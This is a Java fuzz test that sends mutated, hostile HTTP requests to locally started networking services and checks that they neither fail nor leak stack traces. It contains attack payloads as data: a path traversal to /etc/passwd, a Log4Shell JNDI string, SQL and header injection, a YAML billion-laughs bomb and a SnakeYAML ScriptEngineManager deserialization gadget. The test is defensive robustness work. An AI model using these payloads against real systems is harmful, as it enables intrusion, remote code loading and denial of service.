package dev.openkcm.networking.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.openkcm.networking.deploy.EmbeddedKafka;
import dev.openkcm.networking.deploy.EmbeddedRegistry;
import dev.openkcm.networking.deploy.Ports;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Requests that nobody should send, made from the OpenAPI document of each running service: every
 * path, parameter and body mutated, from a seed ({@code -Dfuzz.seed}, {@code -Dfuzz.requests}).
 *
 * <p>Whatever they are, the answer is never an error of ours and never shows a stack trace, and the
 * service is as before.
 */
class HostileRequestsTest {

    private static final long SEED = Long.getLong("fuzz.seed", 1);
    private static final int REQUESTS = Integer.getInteger("fuzz.requests", 200);
    private static final int TIMEOUT_MILLIS = 30_000;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int DEEP = 10_000;
    private static final Pattern CONTENT_LENGTH = Pattern.compile("(?i)\r\ncontent-length: (\\d+)");
    private static final Set<Integer> NO_HTTP = Set.of(400, 414);

    /** A service, and a manifest of each of its kinds, by plural. */
    record Target(String name, Map<String, String> manifests) {
        @Override
        public String toString() {
            return name;
        }
    }

    static List<Target> targets() {
        return List.of(
                new Target(
                        "network",
                        Map.of(
                                "networks",
                                manifest(
                                        "Network",
                                        """
                                        "peerings": [{"name": "p", "networkRef": {"name": "other", "namespace": "ns"},
                                          "prefixes": [{"name": "x", "prefix": "10.0.0.0/8"}]}]\
                                        """))),
                new Target(
                        "interface",
                        Map.of(
                                "networkinterfaces",
                                manifest(
                                        "NetworkInterface",
                                        """
                                        "networkRef": {"name": "n"}, "ipFamilies": ["IPv4", "IPv6"],
                                        "ips": [{"value": "10.0.0.1"}, {"value": "2001:db8::1"}],
                                        "prefixes": [{"value": "10.1.0.0/24"}],
                                        "virtualIP": {"virtualIPRef": {"name": "v"}}\
                                        """))),
                new Target(
                        "vip-nat",
                        Map.of(
                                "virtualips",
                                manifest(
                                        "VirtualIP",
                                        "\"type\": \"Public\", \"ipFamily\": \"IPv4\""),
                                "natgateways",
                                manifest(
                                        "NATGateway",
                                        """
                                        "type": "Public", "ipFamily": "IPv4", "networkRef": {"name": "n"},
                                        "portsPerNetworkInterface": 64\
                                        """),
                                "addresspools",
                                manifest(
                                        "AddressPool",
                                        "\"ipFamily\": \"IPv4\", \"cidrs\":"
                                                + " [\"203.0.113.0/30\"]"))),
                new Target(
                        "loadbalancer",
                        Map.of(
                                "loadbalancers",
                                manifest(
                                        "LoadBalancer",
                                        """
                                        "type": "Public", "ipFamilies": ["IPv4"], "networkRef": {"name": "n"},
                                        "networkInterfaceSelector": {"matchLabels": {"a": "b"},
                                          "matchExpressions": [{"key": "c", "operator": "In", "values": ["d"]}]},
                                        "ports": [{"protocol": "TCP", "port": 443}]\
                                        """))),
                new Target(
                        "policy",
                        Map.of(
                                "networkpolicies",
                                manifest(
                                        "NetworkPolicy",
                                        """
                                        "networkRef": {"name": "n"},
                                        "networkInterfaceSelector": {"matchLabels": {"a": "b"}},
                                        "policyTypes": ["Ingress"],
                                        "ingress": [{"from": [{"ipBlock": {"cidr": "10.0.0.0/8", "except": ["10.1.0.0/16"]}},
                                            {"objectSelector": {"kind": "NetworkInterface", "matchLabels": {"a": "b"}}}],
                                          "ports": [{"protocol": "TCP", "port": 80, "endPort": 90}]}]\
                                        """))));
    }

    private static String manifest(String kind, String spec) {
        return """
        {"apiVersion": "networking.OpenKCM.dev/v1alpha1", "kind": "%s",
         "metadata": {"name": "fuzz", "labels": {"a": "b"}}, "spec": {%s}}\
        """
                .formatted(kind, spec);
    }

    /** Texts that have broken programs before. */
    private static final List<String> TEXTS =
            List.of(
                    "",
                    " ",
                    "\0",
                    "\u202eabc",
                    "\ufeff",
                    "\ud800",
                    "\ud83d\ude00".repeat(50),
                    "../../../etc/passwd",
                    "..%2f..%2f",
                    "%00",
                    "%",
                    "%zz",
                    "${jndi:ldap://x}",
                    "' or 1=1 --",
                    "<script>",
                    "-1",
                    "0",
                    "1e309",
                    "9223372036854775808",
                    "99999999999999999999999999",
                    "NaN",
                    "true",
                    "null",
                    "[]",
                    "{}",
                    "2026-13-45T99:99:99Z",
                    "-999999999-01-01T00:00:00Z",
                    "+999999999-12-31T23:59:59Z",
                    "0000-00-00T00:00:00Z",
                    "a=b,c in (d,,",
                    "a in ()",
                    "!".repeat(1_000),
                    "(".repeat(2_000),
                    "x".repeat(7_000),
                    "AAAA",
                    "////",
                    "\r\nX-Injected: yes");

    /** A raw answer: the status, and everything that came. */
    private record Answer(int status, String text) {}

    @TempDir private static Path folder;
    private static EmbeddedKafka kafka;
    private static EmbeddedRegistry registry;

    private final Random random = new Random(SEED);
    private int port;
    private Target target;

    @BeforeAll
    static void startStack() {
        kafka = EmbeddedKafka.start(folder.resolve("kafka"));
        registry = EmbeddedRegistry.start(folder.resolve("registry"));
    }

    @AfterAll
    static void stopStack() {
        registry.close();
        kafka.close();
    }

    @ParameterizedTest
    @MethodSource("targets")
    void noRequestIsAnsweredByAnErrorOfOurs(Target service) throws Exception {
        target = service;
        port = Ports.free(1).getFirst();
        try (var process =
                new ServiceProcess(
                        "services/" + service.name(),
                        port,
                        folder,
                        kafka.bootstrapServers(),
                        registry.url())) {
            process.start();
            process.awaitReady(Duration.ofMinutes(3));
            var operations = operations(process.get("/q/openapi?format=json"));
            assertThat(operations).hasSizeGreaterThan(5);
            var wrong = new ArrayList<String>();
            int refused = 0;
            for (int i = 0; i < REQUESTS && wrong.size() < 20; i++) {
                byte[] request = request(operations.get(random.nextInt(operations.size())));
                var answer = send(request);
                if (!fine(answer)) {
                    wrong.add(
                            "request %d: %s%n=> %s"
                                    .formatted(
                                            i, shortened(text(request)), shortened(answer.text())));
                }
                refused += answer.status() >= 400 ? 1 : 0;
            }
            assertThat(wrong).as("seed %d", SEED).isEmpty();
            assertThat(send(announcingTooMuch()).text())
                    .startsWith("HTTP/1.1 413")
                    .contains("problem+json", "TooLarge", "1,048,576");
            assertThat(refused).isGreaterThan(REQUESTS / 10);
            assertThat(process.ready()).isTrue();
            for (String plural : service.manifests().keySet()) {
                assertThat(process.get("/apis/networking.openkcm.dev/v1alpha1/" + plural))
                        .as(plural)
                        .startsWith("200");
            }
        }
    }

    /**
     * Not ready is no error of ours, as long as it says when to come back. Whatever is refused is
     * told as a problem, but for what is no HTTP: a path too long, or not a path.
     */
    private static boolean fine(Answer answer) {
        String text = answer.text().toLowerCase(Locale.ROOT);
        boolean trace =
                text.contains("\tat ")
                        || text.contains("exception:")
                        || text.contains("java.lang.")
                        || text.contains("stacktrace");
        boolean ours =
                answer.status() >= 500
                        && !(answer.status() == 503 && text.contains("retry-after"))
                        && !(answer.status() == 504 && text.contains("\"timeout\""));
        boolean told =
                answer.status() < 400
                        || !text.startsWith("http/1.")
                        || (NO_HTTP.contains(answer.status()) && text.contains("content-length: 0"))
                        || text.contains("application/problem+json");
        return !trace && !ours && told && !text.contains("\nx-injected");
    }

    /** What is announced need not be sent to be refused. */
    private byte[] announcingTooMuch() {
        String plural = target.manifests().keySet().iterator().next();
        return bytes(
                "PUT /apis/networking.openkcm.dev/v1alpha1/namespaces/ns/%s/fuzz HTTP/1.1\r\n"
                                .formatted(plural)
                        + "Host: localhost\r\nContent-Length: 20000000\r\n\r\n{");
    }

    private record Operation(String method, String path, List<String> queries) {}

    private static List<Operation> operations(String document) throws IOException {
        JsonNode openApi = JSON.readTree(document.substring(4));
        var operations = new ArrayList<Operation>();
        openApi.path("paths")
                .properties()
                .forEach(path ->
                        path.getValue()
                                .properties()
                                .forEach(operation -> {
                                    var queries = new ArrayList<String>();
                                    operation
                                            .getValue()
                                            .path("parameters")
                                            .forEach(parameter -> {
                                                if (parameter.path("in").asText().equals("query")) {
                                                    queries.add(parameter.path("name").asText());
                                                }
                                            });
                                    String method = operation.getKey().toUpperCase(Locale.ROOT);
                                    if (List.of("GET", "PUT", "POST", "DELETE", "PATCH")
                                            .contains(method)) {
                                        operations.add(
                                                new Operation(method, path.getKey(), queries));
                                    }
                                }));
        return operations;
    }

    private byte[] request(Operation operation) throws IOException {
        String plural = pick(List.copyOf(new TreeSet<>(target.manifests().keySet())));
        String path = operation.path();
        while (path.contains("{")) {
            String name = path.substring(path.indexOf('{'), path.indexOf('}') + 1);
            path = path.replace(name, value(name, plural));
        }
        var query = new ArrayList<String>();
        for (String name : operation.queries()) {
            if (random.nextInt(3) == 0 && !name.equals("watch")) {
                query.add(name + "=" + encoded(anyText()));
            }
        }
        if (random.nextInt(20) == 0) {
            query.add(encoded(anyText()) + "=" + encoded(anyText()));
        }
        var body =
                hasBody(operation)
                        ? body(target.manifests().get(plural))
                        : new Body(new byte[0], "application/json");
        var head = new StringBuilder();
        head.append(operation.method()).append(' ').append(path);
        if (!query.isEmpty()) {
            head.append('?').append(String.join("&", query));
        }
        head.append(" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n");
        header(head, "Accept", List.of("application/json", "*/*", "text/html", "a/b;q=x", ";;;"));
        if (hasBody(operation) && random.nextBoolean()) {
            head.append("Content-Type: ").append(body.type).append("\r\n");
        } else {
            header(
                    head,
                    "Content-Type",
                    List.of(
                            "application/json",
                            "application/yaml",
                            "text/plain",
                            "application/x-www-form-urlencoded",
                            "application/json;charset=utf-16",
                            "application/json;charset=nonsense",
                            "////"));
        }
        header(head, "Prefer", List.of("wait=0", "wait=1", "wait=-1", "wait=99999999999", "x,,;="));
        header(
                head,
                "If-Match",
                List.of("\"1\"", "*", "1", "\"x\"", "W/\"1\"", "\"99999999999999999999\""));
        header(head, "If-None-Match", List.of("*", "\"0\"", "nonsense"));
        header(head, "Idempotency-Key", List.of("k", "k".repeat(300), "\u00e9", ""));
        head.append("Content-Length: ").append(body.bytes.length).append("\r\n\r\n");
        var bytes = new ByteArrayOutputStream();
        bytes.write(head.toString().getBytes(StandardCharsets.ISO_8859_1));
        bytes.write(body.bytes);
        return bytes.toByteArray();
    }

    private void header(StringBuilder head, String name, List<String> values) {
        if (random.nextInt(3) == 0) {
            head.append(name).append(": ").append(pick(values)).append("\r\n");
        }
    }

    private static boolean hasBody(Operation operation) {
        return operation.method().startsWith("P");
    }

    private String value(String name, String plural) {
        if (random.nextInt(3) > 0) {
            return switch (name) {
                case "{plural}" -> plural;
                case "{namespace}" -> "ns";
                default -> "fuzz";
            };
        }
        return encoded(anyText());
    }

    private String anyText() {
        return pick(TEXTS);
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    /** Mostly escaped as a client does; now and then not, but never so that the request breaks. */
    private String encoded(String text) {
        if (random.nextInt(5) == 0) {
            return text.replaceAll("[^!-~]", "").replaceAll("[{}]", "");
        }
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** What is sent, and what it is meant to be. */
    private static final class Body {

        private final byte[] bytes;
        private final String type;

        Body(byte[] bytes, String type) {
            this.bytes = bytes;
            this.type = type;
        }
    }

    private static Body json(String text) {
        return new Body(bytes(text), "application/json");
    }

    private static Body yaml(String text) {
        return new Body(bytes(text), "application/yaml");
    }

    private Body body(String manifest) throws IOException {
        return switch (random.nextInt(20)) {
            case 0 -> json("");
            case 1 -> new Body(noise(), "application/json");
            case 2 -> json("[".repeat(DEEP) + "]".repeat(DEEP));
            case 3 -> json("{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP));
            case 4 ->
                    json("{\"metadata\": {\"labels\": {\"a\": \"" + "x".repeat(900_000) + "\"}}}");
            case 5 -> json(manifest.replace("\"labels\"", "\"labels\": {}, \"labels\""));
            case 6 ->
                    new Body(
                            manifest.getBytes(StandardCharsets.UTF_16),
                            "application/json;charset=utf-16");
            case 7 -> yaml(bomb());
            case 8 -> yaml("a: &a [*a, *a]\n");
            case 9 ->
                    yaml(
                            "--- !!javax.script.ScriptEngineManager [!!java.net.URL"
                                    + " [\"http://x\"]]\n");
            case 10 -> yaml("[".repeat(DEEP) + "]".repeat(DEEP));
            case 11 -> yaml("- ".repeat(DEEP) + "x\n");
            case 12 -> yaml("metadata: {name: a}\nmetadata: {name: b}\n" + manifest);
            case 13 -> yaml("a: &a {b: c}\nspec: {<<: *a, <<: *a}\nmetadata: *a\n");
            case 14 -> new Body(cut(manifest), "application/json");
            case 15 -> new Body(flipped(manifest), "application/json");
            case 16 -> yaml(mutated(JSON.readTree(manifest)).toString());
            default -> json(mutated(JSON.readTree(manifest)).toString());
        };
    }

    /** A billion times the same. */
    private static String bomb() {
        var yaml = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
        for (int i = 1; i < 10; i++) {
            yaml.append("a%d: &a%d [".formatted(i, i));
            yaml.append("*a%d,".formatted(i - 1).repeat(10)).append("]\n");
        }
        return yaml.toString();
    }

    private byte[] noise() {
        byte[] noise = new byte[random.nextInt(2_000)];
        random.nextBytes(noise);
        return noise;
    }

    private byte[] cut(String text) {
        return bytes(text.substring(0, random.nextInt(text.length())));
    }

    private byte[] flipped(String text) {
        byte[] bytes = bytes(text);
        for (int i = 0; i < 5; i++) {
            bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
        }
        return bytes;
    }

    /** The same document with one value replaced by something of any type. */
    private JsonNode mutated(JsonNode document) {
        var places = new ArrayList<Runnable>();
        collect(document, places);
        pick(places).run();
        return document;
    }

    private void collect(JsonNode node, List<Runnable> places) {
        if (node instanceof com.fasterxml.jackson.databind.node.ObjectNode object) {
            object.properties()
                    .forEach(field -> {
                        places.add(() -> object.set(field.getKey(), anything()));
                        collect(field.getValue(), places);
                    });
            places.add(() -> object.set(anyText(), anything()));
        } else if (node instanceof com.fasterxml.jackson.databind.node.ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                int at = i;
                places.add(() -> array.set(at, anything()));
                collect(array.get(i), places);
            }
            places.add(() -> {
                for (int i = 0; i < 5_000; i++) {
                    array.add(array.get(0));
                }
            });
        }
    }

    private JsonNode anything() {
        var nodes = com.fasterxml.jackson.databind.node.JsonNodeFactory.instance;
        return switch (random.nextInt(9)) {
            case 0 -> nodes.nullNode();
            case 1 -> nodes.booleanNode(true);
            case 2 -> nodes.numberNode(Long.MIN_VALUE);
            case 3 -> nodes.numberNode(1e308);
            case 4 -> nodes.arrayNode().add(nodes.objectNode());
            case 5 -> nodes.objectNode().put("x", 1);
            case 6 -> nodes.numberNode(new java.math.BigInteger("9".repeat(400)));
            default -> nodes.textNode(anyText());
        };
    }

    private Answer send(byte[] request) throws IOException {
        try (var socket = new Socket()) {
            socket.setSoTimeout(TIMEOUT_MILLIS);
            socket.connect(new InetSocketAddress("localhost", port), TIMEOUT_MILLIS);
            try {
                socket.getOutputStream().write(request);
            } catch (IOException refusedEarly) {
                // The answer to what is too large may come before all of it was sent.
            }
            String text;
            try {
                text = read(socket);
            } catch (SocketTimeoutException late) {
                return new Answer(599, "no answer within " + TIMEOUT_MILLIS + " ms");
            } catch (IOException reset) {
                return new Answer(400, "the connection was reset");
            }
            return text.startsWith("HTTP/1.")
                    ? new Answer(Integer.parseInt(text.substring(9, 12)), text)
                    : new Answer(text.isEmpty() ? 400 : 598, text);
        }
    }

    /** The whole answer, or the beginning of one that never ends because it tells of changes. */
    private static String read(Socket socket) throws IOException {
        var bytes = new ByteArrayOutputStream();
        byte[] buffer = new byte[8_192];
        for (int n = socket.getInputStream().read(buffer);
                n >= 0;
                n = socket.getInputStream().read(buffer)) {
            bytes.write(buffer, 0, n);
            String sofar = text(bytes.toByteArray());
            if (sofar.toLowerCase(Locale.ROOT).contains("text/event-stream") || complete(bytes)) {
                return sofar;
            }
        }
        return text(bytes.toByteArray());
    }

    /** Whether as much has come as the answer says it has. */
    private static boolean complete(ByteArrayOutputStream bytes) {
        String sofar = bytes.toString(StandardCharsets.ISO_8859_1);
        int head = sofar.indexOf("\r\n\r\n");
        var length = CONTENT_LENGTH.matcher(sofar);
        return head >= 0
                && length.find()
                && length.start() < head
                && sofar.length() >= head + 4 + Integer.parseInt(length.group(1));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.UTF_8);
    }

    private static String shortened(String text) {
        return text.length() > 1_500 ? text.substring(0, 1_500) + " …" : text;
    }
}
